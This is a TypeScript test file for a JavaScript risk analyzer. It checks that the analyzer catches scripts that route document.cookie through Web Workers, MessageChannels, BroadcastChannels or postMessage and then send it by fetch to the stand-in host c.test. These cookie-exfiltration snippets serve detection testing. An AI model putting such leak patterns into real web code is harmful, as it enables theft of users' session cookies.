import { describe, expect, test } from "vitest";
import { analyzeScript } from "../analyze-script.ts";
import { traceOf } from "../testing/trace-of.ts";

/** A worker of the script's own, whose code is `code`. */
function worker(code: string): string {
	return `const w = new Worker(URL.createObjectURL(new Blob([${JSON.stringify(code)}])));`;
}

const SEND = `fetch("https://c.test/", { method: "POST", body: e.data })`;

/** `SECRET` arrives as a message that the script sent itself, and is sent on. */
const LEAKS = [
	["to a worker that sends it", `${worker(`onmessage = (e) => ${SEND}`)} w.postMessage(SECRET)`],
	["to a worker, by self", `${worker(`self.onmessage = function (e) { ${SEND} }`)} w.postMessage(SECRET)`],
	["to a worker, by a listener", `${worker(`addEventListener("message", (e) => ${SEND})`)} w.postMessage(SECRET)`],
	[
		"back from a worker",
		`${worker(`onmessage = (e) => postMessage(e.data)`)} w.onmessage = (e) => ${SEND}; w.postMessage(SECRET)`,
	],
	[
		"back from a worker that packs it",
		`${worker(`self.addEventListener("message", ({ data }) => self.postMessage({ got: btoa(data) }))`)}
		w.addEventListener("message", (e) => fetch("https://c.test/?" + e.data.got)); w.postMessage(SECRET)`,
	],
	[
		"to a worker made of a function",
		`const run = function () { const self = this; onmessage = (e) => ${SEND} };
		const w = new Worker(URL.createObjectURL(new Blob(["(", run, ")()"]))); w.postMessage(SECRET)`,
	],
	["over a channel", `const c = new MessageChannel(); c.port1.onmessage = (e) => ${SEND}; c.port2.postMessage(SECRET)`],
	[
		"over a channel, the other way",
		`const { port1, port2 } = new MessageChannel(); port2.addEventListener("message", (e) => ${SEND}); port2.start(); port1.postMessage(SECRET)`,
	],
	[
		"to other tabs",
		`new BroadcastChannel("a").onmessage = (e) => ${SEND}; new BroadcastChannel("a").postMessage(SECRET)`,
	],
	["to its own window", `addEventListener("message", (e) => ${SEND}); postMessage(SECRET, "*")`],
	["to its own window by name", `onmessage = (e) => ${SEND}; window.postMessage(SECRET, location.origin)`],
] as const;

const fill = (code: string, secret: string) => code.replaceAll("SECRET", secret);

// A function that nobody calls may be called by the page, and the window is anybody's: there a word stays a message.
describe("messages to oneself", () => {
	test.each(LEAKS)("%s", (_title, code) => {
		const { sinks } = traceOf(fill(code, "document.cookie"));
		const sent = sinks.filter(({ api }) => api === "fetch").flatMap(({ carried }) => carried);
		expect(sent.map(({ origin }) => origin.kind)).toContain("cookie");
		expect(analyzeScript({ code: fill(code, "document.cookie") }).risk_level).toBe("red");
	});

	test.each(LEAKS.filter(([title]) => !/window|function/.test(title)))("%s: a word is a word", (_title, code) => {
		const { sinks } = traceOf(fill(code, "'seven'"));
		const sent = sinks.filter(({ api }) => api === "fetch").flatMap(({ carried }) => carried);
		expect(sent).toEqual([]);
		expect(analyzeScript({ code: fill(code, "'seven'") }).risk_level).toBe("green");
	});

	test("data of any window keeps the origin message", () => {
		const { sinks } = traceOf(`addEventListener("message", (e) => ${SEND}); postMessage("seven", "*")`);
		expect(sinks.flatMap(({ carried }) => carried).map(({ origin }) => origin.kind)).toEqual(["message"]);
	});

	test("a port that was handed to another window ends there", () => {
		const code = `const { port1, port2 } = new MessageChannel();
document.querySelector("iframe").contentWindow.postMessage("hello", "*", [port2]); port1.postMessage(document.cookie)`;
		expect(analyzeScript({ code }).risk_level).not.toBe("green");
		expect(analyzeScript({ code: code.replace("document.cookie", "'seven'") }).risk_level).toBe("green");
	});

	test.each([
		["a module", "import a from 'https://c.test/a.js'; postMessage(a)"],
		["code that is not known", "$" + "{code}"],
	])("a worker of %s is not taken for harmless", (_title, text) => {
		const code = `const code = window.settings; new Worker(URL.createObjectURL(new Blob([\`${text}\`])), { type: "module" })`;
		expect(analyzeScript({ code }).risk_level).not.toBe("green");
	});
});
